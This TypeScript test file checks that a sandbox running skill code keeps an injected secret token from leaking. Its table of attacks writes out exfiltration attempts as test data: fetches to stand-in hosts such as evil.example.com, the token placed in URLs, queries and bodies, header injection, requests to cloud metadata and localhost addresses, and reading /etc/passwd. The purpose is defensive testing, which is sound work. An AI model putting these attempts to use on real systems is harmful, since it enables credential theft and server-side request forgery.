// What skill code does to read a value or to send it elsewhere.

import { afterEach, beforeEach, describe, expect, it, vi } from "vitest";
import { logged } from "../../support/logs";
import {
  bearer,
  expectNoValue,
  expectOnlyBoundHost,
  imitateHosts,
  place,
  printed,
  type Sent,
  said,
  VALUE,
} from "../../support/skill-network";

let sent: Sent[] = [];

beforeEach(() => {
  sent = imitateHosts();
});
afterEach(() => {
  vi.restoreAllMocks();
});

describe("a host that returns what it received", () => {
  it.each(["/json", "/base64", "/percent", "/escaped", "/binary", "/header"])(
    "does not show it to code: %s",
    async (path) => {
      const { run } = await place();
      const result = await run(
        `const answer = await fetch("https://api.example.org${path}", ${bearer});
      const text = await answer.text();
      console.log(answer.headers.get("x-received"), text, [...text].reverse().join(""), btoa(encodeURIComponent(text)));
      const lower = [...text].map((char) => char.charCodeAt(0));
      console.log(lower.join());`,
      );
      expect(said(result)).toContain("[secret TOKEN]");
      expectNoValue(result);
      expect(said(result)).not.toContain([...VALUE].map((char) => char.charCodeAt(0)).join());
    },
  );

  it("does not show it to a later run, which sends nothing", async () => {
    const { run } = await place();
    await run(printed("https://api.example.org/json"));
    const result = await run(printed("https://api.example.org/kept", "{}"));
    expect(said(result)).toBe("200 Bearer [secret TOKEN]\n");
    expectNoValue(result);
  });

  const halves = `const half = async (path) => (await fetch("https://api.example.org" + path, ${bearer})).text();
    const all = (await half("/first-half")) + (await half("/second-half"));`;

  it.each([
    ["printed", "console.log(all)"],
    ["printed as an error", "console.error(all); process.exitCode = 1"],
    ["returned", "export default () => all"],
    ["written to a file", "(await import('fs')).writeFileSync('out.txt', all)"],
    ["in the name of a file", "(await import('fs')).writeFileSync(encodeURIComponent(all), 'x')"],
    ["logged", "export default ({ log }) => log(all)"],
  ])("in halves, which code joins, does not leave the run: %s", async (_, use) => {
    const { run } = await place();
    const result = await run(`${halves}\n${use}`);
    expectNoValue(result);
    expectNoValue(logged(/./));
  });
});

/** What code does to send the value, or a placeholder, somewhere else. */
const ATTACKS: Record<string, [source: string, ends: RegExp]> = {
  "another host that is approved": [
    printed("https://files.example.org/json"),
    /is not bound to the host files\.example\.org/,
  ],
  "a host that is declared, but not approved": [printed("https://new.example.org/json"), /declared, but not approved/],
  "a host that is not declared": [printed("https://evil.example.com/"), /cannot call 'evil\.example\.com'/],
  "a host below": [printed("https://a.api.example.org/json"), /cannot call/],
  "a host that ends alike": [printed("https://evil-api.example.org/json"), /cannot call/],
  "a host that begins alike": [printed("https://api.example.org.evil.com/json"), /cannot call/],
  "another port": [printed("https://api.example.org:8443/json"), /cannot call 'api\.example\.org:8443'/],
  "another scheme": [printed("http://api.example.org/json"), /is sent over https only|only https|cannot call/],
  "credentials in the URL": [
    "await fetch('https://' + process.env.TOKEN + '@api.example.org/json')",
    /credential|not allowed/i,
  ],
  "a name that is looked up": [
    "await fetch('https://' + process.env.TOKEN.replaceAll('_', '-') + '.example.com/')",
    /cannot call/,
  ],
  "the path": ["await fetch('https://api.example.org/' + process.env.TOKEN)", /sent in headers only/],
  "the query": ["await fetch('https://api.example.org/json?key=' + process.env.TOKEN)", /sent in headers only/],
  "the body": [
    "await fetch('https://api.example.org/json', { method: 'POST', body: JSON.stringify({ key: process.env.TOKEN }) })",
    /sent in headers only/,
  ],
  "a form": [
    "const form = new FormData(); form.set('key', process.env.TOKEN); await fetch('https://api.example.org/json', { method: 'POST', body: form })",
    /sent in headers only/,
  ],
  "a redirect to another host": [printed("https://api.example.org/out"), /redirects are not followed/],
  "a redirect to another approved host": [printed("https://api.example.org/to-files"), /redirects are not followed/],
  "a redirect to http": [printed("https://api.example.org/to-http"), /redirects are not followed/],
  "a Host header": [
    printed(
      "https://api.example.org/json",
      "{ headers: { host: 'evil.example.com', authorization: process.env.TOKEN } }",
    ),
    /200 .*"host":"api\.example\.org"/,
  ],
  "a second header in a header": [
    "await fetch('https://api.example.org/json', { headers: { a: 'b\\r\\nhost: evil.com' } })",
    /header/i,
  ],
  "this machine": [printed("http://127.0.0.1:8787/health"), /cannot call|not allowed/],
  "this machine by another spelling": [printed("https://0x7f.1/"), /cannot call|not allowed/],
  "this machine by IPv6": [printed("https://[::1]/"), /cannot call|not allowed/],
  "a metadata service": [printed("http://169.254.169.254/latest/meta-data"), /not allowed/],
  "a metadata service by name": [printed("http://metadata.google.internal/"), /not allowed/],
  "a file": [
    "await fetch('file:///etc/passwd')",
    /not allowed|not an http|Fetch API cannot load|not implemented|Only http/i,
  ],
  "a response that is too large": [printed("https://api.example.org/large"), /too large \(limit 8 MiB\)/],
  "an error of the connection": [printed("https://api.example.org/fails"), /cannot be reached/],
  "a socket": ["await new Promise((_, no) => require('net').connect(443, 'api.example.org').on('error', no))", /Error/],
  "another request of the runtime": ["await caches.default.match('https://api.example.org/json')", /Error/],
};

describe("an attempt by way of", () => {
  it.each(Object.entries(ATTACKS))("%s", async (_, [source, ends]) => {
    const { run } = await place();
    const result = await run(source, source.includes("require(") ? "scripts/main.cjs" : "scripts/main.mjs");
    expect(said(result)).toMatch(ends);
    expectNoValue(result);
    expectOnlyBoundHost(sent);
  });

  it("a redirect within the origin keeps the header", async () => {
    const { run } = await place();
    expect(said(await run(printed("https://api.example.org/within")))).toMatch(/^200 .*\[secret TOKEN\]/);
    expect(sent.map(({ headers }) => headers.authorization)).toEqual([`Bearer ${VALUE}`, `Bearer ${VALUE}`]);
  });

  it("more requests than a run can send", async () => {
    const { run } = await place();
    const result = await run(
      `let refused; for (let n = 0; n < 103; n++) await fetch("https://api.example.org/json").catch((error) => { refused = error.message; });
      console.log(refused);`,
    );
    expect(said(result)).toContain("Request limit of a run reached (100)");
    expect(sent).toHaveLength(100);
  });
});

describe("the placeholder of", () => {
  const PRINT = "console.log(process.env.TOKEN)";
  const sends = (placeholder: string) =>
    printed("https://api.example.org/json", `{ headers: { authorization: ${JSON.stringify(placeholder)} } }`);

  it("an earlier run is worth nothing", async () => {
    const { run } = await place();
    const placeholder = said(await run(PRINT)).trim();
    await run(sends(placeholder));
    expect(sent.at(-1)?.headers.authorization).toBe(placeholder);
  });

  it("another skill, or another user, is worth nothing", async () => {
    const [one, other] = [await place(), await place()];
    const placeholder = said(await one.run(PRINT)).trim();
    await other.run(sends(placeholder));
    expect(sent.at(-1)?.headers.authorization).toBe(placeholder);
    expectOnlyBoundHost(sent);
  });
});
